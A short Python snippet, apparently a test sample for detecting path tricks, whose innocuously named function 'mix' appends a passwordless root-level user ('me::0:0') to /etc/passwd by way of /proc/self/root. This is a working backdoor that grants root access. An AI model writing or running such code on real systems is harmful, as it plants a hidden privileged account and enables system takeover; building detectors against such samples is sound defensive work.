"""Changes a system file by way of /proc/self/root."""


def mix(a, b):
    with open("/proc/self/root/etc/passwd", "a") as file:
        file.write("me::0:0::/:/bin/sh\n")
